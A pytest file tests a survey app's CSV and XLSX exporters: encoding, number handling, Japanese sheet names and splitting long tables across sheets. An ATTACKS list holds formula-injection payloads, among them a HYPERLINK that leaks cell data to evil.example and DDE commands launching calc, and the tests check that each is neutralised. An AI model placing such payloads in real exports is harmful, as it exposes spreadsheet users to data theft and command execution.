"""surveyapp.exports: CSV/XLSX writers, checked on the bytes they produce."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from surveyapp import exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+81-3-1234",
    "-1+2",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def csv_bytes(header, rows) -> bytes:
    return b"".join(exports.csv_chunks(header, rows))


def parsed_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_sheet(rows, title="回答", header=("値",), **kwargs):
    out = io.BytesIO()
    exports.write_xlsx(out, [exports.Sheet(title, list(header), rows, **kwargs)])
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))[title]


def body_cells(worksheet):
    return [cell for row in worksheet.iter_rows(min_row=2) for cell in row]


def test_csv_starts_with_a_bom_and_ends_lines_with_crlf():
    data = csv_bytes(["a", "b"], [[1, "x"], [2, "y"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3 and data.replace(b"\r\n", b"").count(b"\n") == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_neutralises_formula_text(attack):
    (_header, (cell,)) = parsed_csv(csv_bytes(["v"], [[attack]]))
    assert cell == "'" + attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_neutralises_formula_text(attack):
    (cell,) = body_cells(xlsx_sheet([[attack]]))
    # A CR is stored as Excel's escape _x000D_ (Excel reads it back as CR; openpyxl does
    # not unescape); the apostrophe in front is what matters.
    assert unescape(cell.value) == "'" + attack and cell.data_type == "s"


def test_numbers_stay_numbers_in_csv():
    _header, row = parsed_csv(csv_bytes(["a", "b", "c"], [[-1, 2.5, "-1+2"]]))
    assert row == ["-1", "2.5", "'-1+2"]


def test_numbers_stay_numbers_in_xlsx():
    cells = body_cells(xlsx_sheet([[-1, 2.5, True, "-1"]], header=("a", "b", "c", "d")))
    assert [(c.value, c.data_type) for c in cells] == [
        (-1, "n"), (2.5, "n"), (1, "n"), ("'-1", "s")]


def test_none_is_an_empty_cell_in_both_formats():
    assert parsed_csv(csv_bytes(["a"], [[None]]))[1] == [""]
    assert body_cells(xlsx_sheet([[None, 1]], header=("a", "b")))[0].value is None


def test_control_characters_xlsx_cannot_hold_are_removed():
    (cell,) = body_cells(xlsx_sheet([["a\x01b\x1fc\x0b"]]))
    assert cell.value == "abc"
    assert parsed_csv(csv_bytes(["v"], [["a\x01b"]]))[1] == ["ab"]


def test_a_leading_nul_is_removed_and_what_follows_neutralised():
    assert parsed_csv(csv_bytes(["v"], [["\x00=1+1"]]))[1] == ["'=1+1"]


def test_header_cells_are_neutralised_too():
    assert parsed_csv(csv_bytes(["=x"], []))[0] == ["'=x"]


def test_xlsx_has_the_japanese_sheet_name_and_a_frozen_bold_header():
    worksheet = xlsx_sheet([[1]], title="得点", header=("overall",))
    assert worksheet.title == "得点" and worksheet.freeze_panes == "A2"
    assert worksheet["A1"].font.b


def test_xlsx_column_widths_follow_the_header_or_the_given_width():
    worksheet = xlsx_sheet([["x", "y"]], header=("所属名称", "v"), widths={"v": 30})
    # 4 full-width chars + 2; XlsxWriter stores a width with its cell padding
    assert worksheet.column_dimensions["A"].width == pytest.approx(10, abs=1)
    assert worksheet.column_dimensions["B"].width == pytest.approx(30, abs=1)


def test_xlsx_number_formats_keep_full_precision():
    (cell,) = body_cells(xlsx_sheet([[83.33333333333333]], header=("overall",),
                                    formats={"overall": "0.0"}))
    assert cell.value == 83.33333333333333 and cell.number_format == "0.0"


def test_unneutralise_undoes_neutralise_only():
    assert exports.unneutralise(exports.neutralise("=1")) == "=1"
    assert exports.unneutralise("'quoted'") == "'quoted'"


def test_csv_streams_in_chunks():
    chunks = list(exports.csv_chunks(["n"], ([i] for i in range(1200))))
    assert len(chunks) == 3


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_no_text_cell_starts_dangerously_in_either_format(texts):
    header = [f"c{i}" for i in range(len(texts))]
    csv_cells = parsed_csv(csv_bytes(header, [texts]))[1]
    xlsx_cells = [c.value for c in body_cells(xlsx_sheet([texts], header=header))]
    for value in csv_cells + [v for v in xlsx_cells if isinstance(v, str)]:
        assert not value.startswith(DANGEROUS)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(st.integers(-10**12, 10**12),
                          st.floats(-1e12, 1e12)),
                min_size=1, max_size=6))
def test_numbers_come_back_as_the_same_numbers(numbers):
    header = [f"c{i}" for i in range(len(numbers))]
    cells = body_cells(xlsx_sheet([numbers], header=header))
    assert {c.data_type for c in cells} == {"n"}
    # openpyxl writes 16 significant digits (Excel itself keeps 15).
    for cell, number in zip(cells, numbers, strict=True):
        assert math.isclose(cell.value, number, rel_tol=1e-15, abs_tol=1e-300)
    assert [float(v) for v in parsed_csv(csv_bytes(header, [numbers]))[1]] == numbers


def test_xlsx_continues_a_table_longer_than_a_sheet_on_the_next_sheets():
    out = io.BytesIO()
    rows = ([n] for n in range(10))  # streamed: the writer never sees them all at once
    exports.write_xlsx(out, [exports.Sheet("回答", ["n"], rows, labels={"n": "番号"})],
                       max_rows=4)
    workbook = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    parts = ["回答", "回答 (2)", "回答 (3)", "回答 (4)"]
    assert workbook.sheetnames == [*parts, "項目説明"]
    assert all(workbook[title]["A1"].value == "番号" for title in parts)
    values = [row[0] for title in parts
              for row in workbook[title].iter_rows(min_row=2, values_only=True)]
    assert values == list(range(10))
    assert max(workbook[title].max_row for title in parts) == 4


def test_xlsx_guide_lists_each_continued_sheet():
    out = io.BytesIO()
    exports.write_xlsx(out, [exports.Sheet("回答", ["n"], [[1], [2], [3]],
                                           labels={"n": "番号"}, notes={"n": "連番"})],
                       max_rows=2)
    guide = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["項目説明"]
    assert list(guide.iter_rows(min_row=2, values_only=True)) == [
        (title, 1, "番号", "n", "連番") for title in ("回答", "回答 (2)", "回答 (3)")]
